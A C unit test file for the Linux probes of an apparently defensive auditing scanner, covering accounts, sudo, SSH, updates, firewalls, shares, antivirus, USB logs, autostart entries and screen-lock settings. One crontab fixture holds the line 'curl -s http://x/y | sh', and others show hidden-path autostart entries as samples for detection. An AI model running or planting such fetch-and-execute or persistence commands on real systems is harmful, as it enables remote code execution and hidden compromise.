/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The probes of Linux systems on small files: one row is a file for each place and the whole
 * answer. "!" stands for a file that could not be read, NULL for one that is not there; "=name
 * text" are the files of a pack, "+name" the names of a list: links, "+~name" files,
 * "+/name" folders. */
#include "tests/unit/scanners/probes/harness.h"
#include "tests/unit/scanners/readers/journal_file.h"

#define PLACES 8

struct row {
	const char *probe, *place[PLACES];
	enum fact_kind kind;
	const char *text;
};

static struct bytes copy(struct visit *v, struct str *s)
{
	size_t n = s->len;
	void *p = arena_alloc(&v->arena, n);

	memcpy(p, str_c(s), n);
	str_done(s);
	return bytes_of(p, n);
}

/* "=a one\n=b two" becomes a pack of two files, their lines parted by '~'; "+a +b" a list of links. */
static struct bytes pack_of(struct visit *v, const char *text)
{
	struct str s = STR_INIT(1 << 20);

	while (*text == '=') {
		size_t name = strcspn(++text, " "), n = strcspn(text + name, "\n");
		char *body = arena_strndup(&v->arena, text + name + (n > 0), n ? n - 1 : 0);

		for (char *c = body; *c; c++)
			*c = *c == '~' ? '\n' : *c;
		str_addf(&s, "w %zu 1763600000 %zu %.*s\n%s", strlen(body), strlen(body), (int)name,
			 text, body);
		text += name + n + (text[name + n] == '\n');
	}
	return copy(v, &s);
}

static struct bytes list_of(struct visit *v, const char *text)
{
	struct str s = STR_INIT(1 << 20);

	while (*text == '+') {
		size_t n = strcspn(++text, " ");

		str_addf(&s, "%c 0 - %.*s\n",
			 *text == '~'   ? 'f'
			 : *text == '/' ? 'd'
					: 'l',
			 (int)n - (*text == '~' || *text == '/'),
			 text + (*text == '~' || *text == '/'));
		text += n + (text[n] == ' ');
	}
	return copy(v, &s);
}

static void put(struct visit *v, size_t i, const char *text)
{
	if (!text)
		return;
	if (!strcmp(text, "!"))
		v->blob[i].state = PROBE_BLOB_UNREADABLE;
	else if (*text == '=')
		visit_bytes(v, i, pack_of(v, text));
	else if (*text == '+')
		visit_bytes(v, i, list_of(v, text));
	else
		visit_bytes(v, i, bytes_of(text, strlen(text)));
}

#define PASSWD "root:x:0:0:root:/root:/bin/bash\n"
#define SUZUKI "suzuki:x:1000:1000::/home/suzuki:/bin/sh\n"
#define A      FACT_KIND_LINUX_ACCOUNT
#define S      FACT_KIND_LINUX_SUDO
#define R      FACT_KIND_LINUX_REMOTE
#define U      FACT_KIND_LINUX_UPDATE
#define P      FACT_KIND_LINUX_UPDATE_POLICY
#define W      FACT_KIND_LINUX_FIREWALL
#define SHARES FACT_KIND_SHARE
#define V      FACT_KIND_ANTIVIRUS
#define RULES  FACT_KIND_LINUX_USB_POLICY
#define USB    FACT_KIND_USB_STORAGE
#define LOG    FACT_KIND_DEVICE_LOG
#define TASK   FACT_KIND_SCHEDULED_TASK
#define JST    "TZif2...\nJST-9\n"
#define OWN    "storage_off=no uas_off=no"
#define CLAM   "ClamAV-VDB:20 Nov 2026 08-12 +0000:27500:2000000:90:x:x:builder:1"

static const struct row rows[] = {
	/* user names */
	{ "linux-accounts",
	  { PASSWD SUZUKI "daemon:*:1:1::/:/usr/sbin/nologin\n",
	    "root:!:20000::::::\nsuzuki:$y$j9T$SECRETSECRET:20400:0:99999:7:::\n" },
	  A,
	  "collected\n name=root uid=0 signs_in=yes password=locked changed=2024-10-04T00:00:00Z\n"
	  " name=suzuki uid=1000 signs_in=yes password=set form=usual "
	  "changed=2025-11-08T00:00:00Z\n"
	  " name=daemon uid=1 signs_in=no password=locked\n" },
	{ "linux-accounts",
	  { PASSWD SUZUKI, "root:$1$SECRET$SECRET:15000\nsuzuki::0\n" },
	  A,
	  "collected\n name=root uid=0 signs_in=yes password=set form=old "
	  "changed=2011-01-26T00:00:00Z\n name=suzuki uid=1000 signs_in=yes password=none\n" },
	{ "linux-accounts",
	  { "a:SECRETSECRE2.:0:0::/:/bin/sh\nb::5:5::/:\n", "a:$6$SECRET:1\n" },
	  A,
	  "collected\n name=a uid=0 signs_in=yes password=set form=old\n"
	  " name=b uid=5 signs_in=yes password=none\n" },
	{ "linux-accounts",
	  { SUZUKI, "root:SECRET:1\n" },
	  A,
	  "collected\n name=suzuki uid=1000 signs_in=yes password=unreadable\n" },
	{ "linux-accounts",
	  { "x:x:-1:0::/:/bin/sh\n", "x:SECRET:99999999999999:\n" },
	  A,
	  "collected\n name=x signs_in=yes password=unreadable\n" },
	{ "linux-accounts", { PASSWD, NULL }, A, "failed\n" },
	{ "linux-accounts", { PASSWD, "!" }, A, "failed\n" },
	{ "linux-accounts", { "!", "root::1\n" }, A, "failed\n" },
	{ "linux-accounts", { "junk\n", "junk\n" }, A, "failed\n" },
	/* rules of sudo */
	{ "linux-sudo",
	  { "# a NOPASSWD: ALL\nDefaults env_reset\nroot ALL=(ALL:ALL) ALL\n"
	    "%wheel ALL=(ALL) NOPASSWD: ALL\nbackup ALL = \\\n NOPASSWD: /usr/bin/rsync, "
	    "/usr/bin/ALLOW, PASSWD: ALL\n" },
	  S,
	  "collected\n sort=group name=wheel everything=yes\n"
	  " sort=user name=backup everything=no\n" },
	{ "linux-sudo",
	  { "@includedir /etc/sudoers.d\n", "=etc/sudoers.d/010_pi pi ALL=(ALL) NOPASSWD:ALL\n"
					    "=etc/sudoers.d/old.bak x ALL=(ALL) NOPASSWD:ALL\n"
					    "=etc/sudoers.d/z ALL ALL=NOPASSWD:/bin/ls" },
	  S,
	  "collected\n sort=user name=pi everything=yes\n"
	  " sort=everybody name=ALL everything=no\n" },
	{ "linux-sudo", { "root ALL=(ALL) ALL\n", "=a x ALL=NOPASSWD:ALL" }, S, "collected\n" },
	{ "linux-sudo",
	  { "Defaults:yamada !authenticate\n" },
	  S,
	  "collected\n sort=user name=yamada everything=yes\n" },
	{ "linux-sudo", { "#include /etc/sudoers.local\n" }, S, "failed\n" },
	{ "linux-sudo", { NULL }, S, "collected\n" },
	{ "linux-sudo", { "!" }, S, "failed\n" },
	{ "linux-sudo", { "#includedir /etc/sudoers.d\n", "!" }, S, "failed\n" },
	/* signing in over the network */
	{ "linux-remote",
	  { "", NULL, "x", "+ssh.service +fail2ban.service" },
	  R,
	  "collected\n installed=yes starts=yes root=keys passwords=yes empty_passwords=no "
	  "exceptions=no guard=yes\n" },
	{ "linux-remote",
	  { "Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication yes\nUsePAM yes\n"
	    "KbdInteractiveAuthentication no\nPermitRootLogin=yes\n",
	    "=b.conf PasswordAuthentication yes\n=a.conf passwordauthentication no~PermitRootLogin "
	    "no",
	    "x", "+cron.service", "+ssh.socket" },
	  R,
	  "collected\n installed=yes starts=yes root=no passwords=no empty_passwords=no "
	  "exceptions=no guard=no\n" },
	{ "linux-remote",
	  { "PasswordAuthentication no\nUsePAM yes\nMatch User x\nPermitRootLogin yes\nMatch all\n"
	    "PermitEmptyPasswords yes\n",
	    NULL, "x", "+sshd.service" },
	  R,
	  "collected\n installed=yes starts=yes root=keys passwords=yes empty_passwords=yes "
	  "exceptions=yes guard=no\n" },
	{ "linux-remote",
	  { NULL },
	  R,
	  "collected\n installed=no starts=no root=keys passwords=yes empty_passwords=no "
	  "exceptions=no guard=no\n" },
	{ "linux-remote",
	  { "Include /etc/other\n", NULL, "x", "!" },
	  R,
	  "partial\n installed=yes root=keys passwords=yes empty_passwords=no exceptions=no\n" },
	{ "linux-remote", { "!", NULL, "x", "+ssh.service" }, R, "failed\n" },
	/* updates */
	{ "linux-updates",
	  { "=var/log/apt/history.log Start-Date: 2026-11-10  01:00:00~Upgrade: "
	    "x:amd64~End-Date: 2026-11-10  06:12:33~Start-Date: 2026-11-18  01:00:00~Install: "
	    "y~End-Date: 2026-11-18  06:00:00~Start-Date: 2026-11-19  01:00:00~Upgrade: z",
	    NULL, "=a/20auto-upgrades APT::Periodic::Unattended-Upgrade \"1\";", "x", NULL, NULL,
	    NULL, JST },
	  U,
	  "collected\n method=apt at=2026-11-09T21:12:33Z\n" },
	{ "linux-updates",
	  { NULL, "=var/log/dnf.rpm.log 2026-11-01T09:12:33+0900 SUBDEBUG Upgrade: "
		  "a~2026-11-02T09:12:33Z SUBDEBUG Installed: b" },
	  U,
	  "collected\n method=dnf at=2026-11-01T00:12:33Z\n" },
	{ "linux-updates", { NULL }, U, "failed\n" },
	{ "linux-updates", { "=var/log/apt/history.log nothing" }, U, "collected\n" },
	{ "linux-updates", { "!" }, U, "failed\n" },
	{ "linux-updates",
	  { NULL, NULL, "=a/20 APT::Periodic::Unattended-Upgrade \"1\";", "x",
	    "+apt-daily-upgrade.timer" },
	  P,
	  "collected\n method=apt on=yes blocked=yes\n" },
	{ "linux-updates",
	  { NULL, NULL,
	    "=a/20 APT { Periodic { Unattended-Upgrade \"1\"; }; };\n"
	    "=a/50 Unattended-Upgrade::Mail \"x\";~// Unattended-Upgrade \"0\";",
	    "x" },
	  P,
	  "collected\n method=apt on=yes blocked=no\n" },
	{ "linux-updates",
	  { NULL, NULL,
	    "=a/20 APT::Periodic::Unattended-Upgrade \"1\";\n=a/99 "
	    "APT::Periodic::Unattended-Upgrade \"0\";",
	    "x" },
	  P,
	  "collected\n method=apt on=no blocked=no\n" },
	{ "linux-updates",
	  { NULL, NULL, NULL, NULL, NULL, "apply_updates = yes\n", "+dnf-automatic.timer" },
	  P,
	  "collected\n method=dnf on=yes\n" },
	{ "linux-updates",
	  { NULL, NULL, NULL, NULL, NULL, "apply_updates = yes\n" },
	  P,
	  "collected\n method=dnf on=no\n" },
	{ "linux-updates", { NULL }, P, "failed\n" },
	{ "linux-updates", { NULL, NULL, "!" }, P, "failed\n" },
	/* firewalls */
	{ "linux-firewall",
	  { "ENABLED=yes\n", NULL, NULL, NULL, NULL, NULL, "+ufw.service" },
	  W,
	  "collected\n method=ufw enabled=yes\n" },
	{ "linux-firewall",
	  { "ENABLED=no\n", NULL, NULL, NULL, NULL, NULL, "+ufw.service" },
	  W,
	  "collected\n method=ufw enabled=no\n" },
	{ "linux-firewall",
	  { NULL, "chain input {\n# drop\n}\n", NULL, NULL, NULL, NULL, "+nftables.service" },
	  W,
	  "collected\n method=nftables enabled=no\n" },
	{ "linux-firewall",
	  { NULL, "include \"/etc/nftables/*.nft\"\n", NULL, "=a.nft policy drop;", NULL, NULL,
	    NULL, "+nftables.service" },
	  W,
	  "collected\n method=nftables enabled=yes\n" },
	{ "linux-firewall",
	  { NULL, NULL, NULL, NULL, "DefaultZone=trusted\n", ":INPUT DROP [0:0]\n",
	    "+firewalld.service +netfilter-persistent.service" },
	  W,
	  "collected\n method=firewalld enabled=no\n method=iptables enabled=yes\n" },
	{ "linux-firewall", { NULL }, W, "collected\n" },
	{ "linux-firewall", { NULL, NULL, NULL, NULL, NULL, NULL, "!" }, W, "failed\n" },
	/* shared folders */
	{ "linux-shares",
	  { "[global]\nguest ok = yes\n[data]\npath = /srv/data\nread only = no\n[in]\npublic = "
	    "no\npath=/home/in\n; [x]\n[printers]\nprintable = yes\n" },
	  SHARES,
	  "collected\n name=data path=/srv/data area=folder everyone=write\n"
	  " name=in path=/home/in area=users everyone=none\n"
	  " name=printers area=printer everyone=read\n" },
	{ "linux-shares",
	  { NULL, "=u/photos path=/home/a/photos~usershare_acl=S-1-1-0:F,~guest_ok=y" },
	  SHARES,
	  "collected\n name=photos path=/home/a/photos area=users everyone=write\n" },
	{ "linux-shares", { "include = /etc/samba/more.conf\n" }, SHARES, "failed\n" },
	{ "linux-shares", { NULL }, SHARES, "collected\n" },
	{ "linux-shares", { "!" }, SHARES, "failed\n" },
	/* virus protection */
	{ "linux-clamav",
	  { "=var/lib/clamav/daily.cld " CLAM, "+clamav-freshclam.service" },
	  V,
	  "collected\n name=ClamAV enabled=yes definitions=2026-11-20T00:00:00Z\n" },
	{ "linux-clamav",
	  { "=var/lib/clamav/daily.cvd junk\n=var/lib/clamav/main.cvd " CLAM },
	  V,
	  "collected\n name=ClamAV enabled=no\n" },
	{ "linux-clamav", { NULL }, V, "collected\n" },
	{ "linux-clamav", { "!" }, V, "failed\n" },
	/* rules about USB */
	{ "linux-usb-rules",
	  { "=a.conf blacklist usb-storage~# blacklist uas" },
	  RULES,
	  "collected\n storage_off=yes uas_off=no udev_refuses=no\n" },
	{ "linux-usb-rules",
	  { "=a.conf install usb_storage /bin/false" },
	  RULES,
	  "collected\n storage_off=yes uas_off=yes udev_refuses=no\n" },
	{ "linux-usb-rules",
	  { NULL, "ImplicitPolicyTarget=block\n", "allow id 1d6b:0002\n# x\nreject\n", NULL, NULL,
	    "+usbguard.service" },
	  RULES,
	  "collected\n " OWN " guard_starts=yes guard_others=block guard_rules=2 "
	  "udev_refuses=no\n" },
	{ "linux-usb-rules",
	  { NULL, "ImplicitPolicyTarget=block\n", "allow\n" },
	  RULES,
	  "collected\n " OWN " guard_starts=no guard_others=allow guard_rules=1 "
	  "udev_refuses=no\n" },
	{ "linux-usb-rules",
	  { NULL, NULL, NULL, "=a SUBSYSTEM==\"usb\", ATTR{authorized}=\"0\"" },
	  RULES,
	  "collected\n " OWN " udev_refuses=yes\n" },
	{ "linux-usb-rules", { "!" }, RULES, "partial\n " OWN " udev_refuses=no\n" },
	/* what was plugged in */
	{ "linux-usb-log",
	  { "=var/log/kern.log Nov 12 10:00:00 pc kernel: [ 1.0] usb 1-2: New USB device found, "
	    "idVendor=0951~Nov 12 10:00:00 pc kernel: [ 1.0] usb 1-2: Product: Stick~Nov 12 "
	    "10:00:00 "
	    "pc kernel: [ 1.0] usb 1-2: Manufacturer: Kingston~Nov 12 10:00:00 pc kernel: [ 1.0] "
	    "usb "
	    "1-2: SerialNumber: 60A4~Nov 12 10:00:01 pc kernel: [ 1.0] usb-storage 1-2:1.0: USB "
	    "Mass "
	    "Storage device detected~Nov 18 10:00:00 pc kernel: [ 9.0] usb 1-3: New USB device "
	    "found~Nov 18 10:00:00 pc kernel: [ 9.0] usb 1-3: Product: Mouse",
	    "=var/log/syslog 2025-11-13T10:00:00.5+09:00 pc kernel: usb 2-1: New USB device "
	    "found~2025-11-13T10:00:00+09:00 pc kernel: usb 2-1: SerialNumber: "
	    "S2~2025-11-13T10:00:00+09:00 pc kernel: scsi host6: uas",
	    NULL, NULL, JST },
	  USB,
	  "collected\n bus=usbstor vendor=Kingston product=Stick serial=60A4 own_serial=yes "
	  "last_arrival=2025-11-12T01:00:00Z\n bus=uasp serial=S2 own_serial=yes "
	  "last_arrival=2025-11-13T01:00:00Z\n" },
	{ "linux-usb-log",
	  { "=var/log/kern.log Dec  3 10:00:00 pc kernel: x" },
	  LOG,
	  "collected\n name=kern.log begins=2024-12-03T10:00:00Z cut=no\n" },
	{ "linux-usb-log", { NULL, NULL, NULL, "!" }, USB, "failed\n" },
	{ "linux-usb-log", { NULL, NULL, NULL, "=a/system.journal x" }, USB, "partial\n" },
	{ "linux-usb-log", { NULL }, USB, "failed\n" },
	{ "linux-usb-log", { "!", "=var/log/syslog x" }, USB, "failed\n" },
	/* what starts by itself */
	{ "linux-starts",
	  { "=etc/crontab SHELL=/bin/sh~17 * * * * root cd / && run-parts /etc/cron.hourly~@reboot "
	    "root /tmp/.x/run >/dev/null",
	    "=etc/cron.d/e */5 * * * * root /usr/bin/a >/tmp/log 2>&1",
	    "=var/spool/cron/crontabs/yamada 0 1 * * * sh /var/tmp/b.sh\n"
	    "=var/spool/cron/crontabs/z * * * * * curl -s http://x/y | sh" },
	  TASK,
	  "collected\n name=crontab command=cd area=system enabled=yes hidden=no file=yes\n"
	  " name=crontab command=/tmp/.x/run area=temporary enabled=yes hidden=no file=yes\n"
	  " name=e command=/usr/bin/a area=system enabled=yes hidden=no file=yes\n"
	  " name=yamada command=/var/tmp/b.sh area=temporary enabled=yes hidden=no file=yes\n"
	  " name=z command=curl area=public enabled=yes hidden=no file=yes\n" },
	{ "linux-starts",
	  { NULL, NULL, NULL, "=u/a.service [Service]~ExecStart=-/usr/lib/.hid/d --x",
	    "=u/b.service ExecStart=/home/a/bin/b", "=u/c.desktop Exec=zoom %U",
	    "=etc/rc.local #!/bin/sh~/usr/bin/ok~exit 0" },
	  TASK,
	  "collected\n name=a.service command=/usr/lib/.hid/d area=system enabled=yes hidden=yes "
	  "file=yes\n name=b.service command=/home/a/bin/b area=user enabled=yes hidden=no "
	  "file=yes\n name=c.desktop command=zoom area=system enabled=yes hidden=no file=yes\n"
	  " name=rc.local command=/usr/bin/ok area=system enabled=yes hidden=no file=yes\n"
	  " name=rc.local command=exit area=system enabled=yes hidden=no file=yes\n" },
	{ "linux-starts", { NULL }, TASK, "collected\n" },
	{ "linux-starts", { NULL, "!" }, TASK, "failed\n" },
	/* programs */
	{ "linux-programs",
	  { "Package: dpkg\nPriority: required\nStatus: install ok installed\nVersion: "
	    "1\n\nPackage: "
	    "libx\nStatus: install ok installed\nPriority: optional\n\nPackage: "
	    "gimp\nDescription: a\n Package: no\n .\nStatus: install ok installed\nVersion: "
	    "2.10\nPriority: optional\n\nPackage: gone\nStatus: deinstall ok "
	    "config-files\n\nPackage: anydesk\nStatus: hold ok installed\n",
	    "Package: libx\nAuto-Installed: 1\n\nPackage: gimp\nAuto-Installed: 0\n",
	    "+~core22_1.snap +~firefox_1.snap +~firefox_2.snap +~x", "+/org.gimp.GIMP +/junk" },
	  FACT_KIND_SOFTWARE,
	  "collected\n name=gimp version=2.10 scope=machine origin=dpkg\n name=anydesk "
	  "scope=machine origin=dpkg\n name=firefox scope=machine origin=snap\n "
	  "name=org.gimp.GIMP scope=machine origin=flatpak\n" },
	{ "linux-programs",
	  { "Package: a\nStatus: install ok installed\n\n\n\nPackage: b\nStatus: install ok "
	    "installed\n" },
	  FACT_KIND_LINUX_PACKAGES,
	  "collected\n method=dpkg count=2\n" },
	{ "linux-programs", { "junk" }, FACT_KIND_SOFTWARE, "failed\n" },
	{ "linux-programs", { "!" }, FACT_KIND_SOFTWARE, "failed\n" },
	{ "linux-programs", { NULL }, FACT_KIND_SOFTWARE, "failed\n" },
	{ "linux-programs",
	  { NULL, NULL, NULL, NULL, "+rpmdb.sqlite" },
	  FACT_KIND_SOFTWARE,
	  "failed\n" },
	{ "linux-programs",
	  { "Package: a\nStatus: install ok installed\n", "!" },
	  FACT_KIND_SOFTWARE,
	  "partial\n name=a scope=machine origin=dpkg\n" },
	/* name and last use */
	{ "linux-last-use",
	  { NULL, NULL, "denpyo-pc\n", JST },
	  FACT_KIND_COMPUTER,
	  "collected\n name=denpyo-pc zone_offset=32400\n" },
	{ "linux-last-use", { NULL, "junk" }, FACT_KIND_LAST_USE, "failed\n" },
};

START_TEST(each_row)
{
	const struct row *r = &rows[_i];
	struct visit v;

	visit_init(&v);
	for (size_t i = 0; i < PLACES; i++)
		put(&v, i, r->place[i]);
	visit_run(&v, r->probe);
	visit_expect(&v, r->kind, r->text);
	ck_assert(!strstr(visit_text(&v, r->kind), "SECRET"));
	visit_done(&v);
}
END_TEST

static struct str packs = STR_INIT(1 << 20);

/* need: what a later systemd would ask of its readers. */
static void pack_journal(const char *name, const char *spec, const char *options, size_t cut,
			 char need)
{
	struct bytes b = journal_make(spec, options);
	size_t n = b.n - cut;

	str_addf(&packs, "w %zu - %zu var/log/journal/a/%s\n", b.n, n, name);
	str_addn(&packs, (const char *)b.p, 12);
	str_addc(&packs, need ? need : (char)b.p[12]);
	str_addn(&packs, (const char *)b.p + 13, n - 13);
}

/* The journal beside a text log: each device once, with its newest day; what a program says is
 * none; each file tells how far it reaches. */
START_TEST(the_journal_joins_the_logs)
{
	struct visit v;

	visit_init(&v);
	pack_journal("system@01-02.journal",
		     STICK_IN("02", "1-1", "S1") STICK_IN("03", "1-1", "S2"), "", 0, 0);
	pack_journal(
	    "system.journal",
	    STICK_IN(
		"10", "1-1",
		"S1") "2026-11-11T00:00:00Z syslog usb 1-3: New USB device found\n"
		      "2026-11-11T00:00:00Z syslog usb-storage 1-3:1.0: USB Mass Storage device "
		      "detected\n",
	    "--compact", 0, 0);
	visit_bytes(&v, 3, copy(&v, &packs));
	put(&v, 0,
	    "=var/log/kern.log 2026-11-15T00:00:00Z pc kernel: usb 1-2: New USB device found~"
	    "2026-11-15T00:00:00Z pc kernel: usb 1-2: Product: Stick~2026-11-15T00:00:00Z pc "
	    "kernel: usb 1-2: SerialNumber: S2~2026-11-15T00:00:00Z pc kernel: usb-storage "
	    "1-2:1.0: USB Mass Storage device detected");
	visit_run(&v, "linux-usb-log");
	visit_expect(&v, USB,
		     "collected\n bus=usbstor product=Stick serial=S2 own_serial=yes "
		     "last_arrival=2026-11-15T00:00:00Z\n bus=usbstor product=Stick serial=S1 "
		     "own_serial=yes last_arrival=2026-11-10T01:00:00Z\n");
	visit_expect(&v, LOG,
		     "collected\n name=kern.log begins=2026-11-15T00:00:00Z cut=no\n "
		     "name=system.journal begins=2026-11-10T01:00:00Z cut=no\n "
		     "name=system@01-02.journal begins=2026-11-02T01:00:00Z cut=no\n");
	visit_done(&v);
}
END_TEST

/* Cut off, packed or made by a later systemd: what was seen is told, and that it is not all. */
START_TEST(a_journal_that_is_not_whole)
{
	static const struct {
		const char *options;
		size_t cut;
		char need;
	} forms[] = { { "", 200, 0 }, { "--pack zstd", 0, 0 }, { "", 0, 64 } };
	struct visit v;

	visit_init(&v);
	pack_journal("system.journal", STICK_IN("02", "1-1", "S1"), forms[_i].options,
		     forms[_i].cut, forms[_i].need);
	visit_bytes(&v, 3, copy(&v, &packs));
	visit_run(&v, "linux-usb-log");
	ck_assert_int_eq(facts_state(&v.facts, USB), FACT_STATE_PARTIAL);
	ck_assert_uint_eq(facts_count(&v.facts, LOG), forms[_i].need ? 0 : 1);
	visit_done(&v);
}
END_TEST

static struct bytes settings(const char *spec)
{
	char cwd[2048];
	const char *src = getenv("KENSHIN_SRC");

	ck_assert(getcwd(cwd, sizeof(cwd)));
	fixtures_text("g.spec", spec);
	fixtures_run("python3 \"%s/tests/fixtures/tools/mkgvdb.py\" g.spec g.db", src ? src : cwd);
	return fixtures_load("g.db");
}

#define SESSION "/org/gnome/desktop/session/idle-delay "
#define SAVER   "/org/gnome/desktop/screensaver/"

static const struct lock_row {
	const char *user, *machine, *others, *desktops, *wayland, *text;
} locks[] = {
	{ "/a b true\n", NULL, NULL, NULL, "+gnome.desktop",
	  "collected\n scope=user user=yamada\n" }, /* nothing set */
	{ SESSION "u 900\n" SAVER "lock-delay u 30\n" SAVER "lock-enabled b true\n", NULL, NULL,
	  "+ubuntu.desktop", NULL,
	  "collected\n scope=user user=yamada active=yes secure=yes idle_seconds=930\n" },
	{ SESSION "u 0\n", NULL, NULL, "+gnome-xorg.desktop", NULL,
	  "collected\n scope=user user=yamada active=no\n" },
	{ SAVER "lock-enabled b true\n/org/gnome/desktop/lockdown/disable-lock-screen b true\n",
	  NULL, NULL, NULL, "+gnome.desktop", "collected\n scope=user user=yamada secure=no\n" },
	/* what was set for all: below the user's own, above it where it is locked */
	{ SESSION "u 60\n", SESSION "u 600\n" SAVER "lock-enabled b false\n",
	  "=etc/dconf/db/local ", NULL, "+gnome.desktop",
	  "collected\n scope=user user=yamada active=yes secure=no idle_seconds=60\n" },
	{ SESSION "u 0\n", SESSION "u 600\nlock " SESSION "\n", NULL, NULL, "+gnome.desktop",
	  "collected\n scope=user user=yamada active=yes idle_seconds=600\n" },
	{ "/a b true\n", NULL, "=etc/dconf/db/firm ", NULL, "+gnome.desktop",
	  "partial\n scope=user user=yamada\n" },
	{ "/a b true\n", NULL, NULL, "+gnome.desktop +plasma.desktop", NULL,
	  "partial\n scope=user user=yamada\n" },
	{ NULL, NULL, NULL, "+plasma.desktop", NULL, "failed\n" },
	{ NULL, NULL, NULL, NULL, "+gnome.desktop", "collected\n" }, /* never used it */
	{ NULL, NULL, NULL, NULL, NULL, "collected\n scope=console\n" },
	{ "!", NULL, NULL, NULL, "+gnome.desktop", "failed\n" },
	{ "/a b true\n", NULL, NULL, "!", NULL, "failed\n" },
	{ SESSION "s never\n", NULL, NULL, NULL, "+gnome.desktop", "failed\n" }, /* no number */
};

START_TEST(the_screen_lock_of_gnome)
{
	const struct lock_row *r = &locks[_i];
	struct visit v;

	visit_init(&v);
	put(&v, 2, r->others);
	put(&v, 3, r->desktops);
	put(&v, 4, r->wayland);
	if (r->user && *r->user == '!')
		put(&v, 0, "!");
	else if (r->user)
		visit_bytes(&v, 0, settings(r->user));
	if (r->machine)
		visit_bytes(&v, 1, settings(r->machine));
	visit_run(&v, "linux-screen-lock");
	visit_expect(&v, FACT_KIND_SCREEN_LOCK, r->text);
	visit_done(&v);
}
END_TEST

/* The heads of journals and the records of starts know when the PC was in use. */
START_TEST(last_use_stands_inside_of_files)
{
	uint8_t journal[256] = "LPKSHHRH", wtmp[2 * 384] = { 0 };
	uint64_t micro = (uint64_t)1763600000 * 1000000;
	uint32_t at = 1763610000;
	struct str s = STR_INIT(1000);
	struct visit v;

	for (size_t i = 0; i < 8; i++)
		journal[192 + i] = (uint8_t)(micro >> 8 * i);
	str_addf(&s, "c 9000 - 256 a/system.journal\n");
	str_addn(&s, (const char *)journal, sizeof(journal));
	visit_init(&v);
	visit_bytes(&v, 0, copy(&v, &s));
	visit_run(&v, "linux-last-use");
	visit_expect(&v, FACT_KIND_LAST_USE, "collected\n at=2025-11-20T00:53:20Z\n");
	visit_done(&v);

	wtmp[384] = 7;
	for (size_t i = 0; i < 4; i++)
		wtmp[384 + 340 + i] = (uint8_t)(at >> 8 * i);
	visit_init(&v);
	visit_bytes(&v, 1, bytes_of(wtmp, sizeof(wtmp)));
	visit_run(&v, "linux-last-use");
	visit_expect(&v, FACT_KIND_LAST_USE, "collected\n at=2025-11-20T03:40:00Z\n");
	visit_done(&v);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("linux probes");
	TCase *tc = tcase_create("linux");

	tcase_add_loop_test(tc, each_row, 0, LEN(rows));
	tcase_add_test(tc, last_use_stands_inside_of_files);
	tcase_add_test(tc, the_journal_joins_the_logs);
	tcase_add_loop_test(tc, the_screen_lock_of_gnome, 0, LEN(locks));
	tcase_add_loop_test(tc, a_journal_that_is_not_whole, 0, 3);
	suite_add_tcase(s, tc);
	return fixtures_main(s);
}
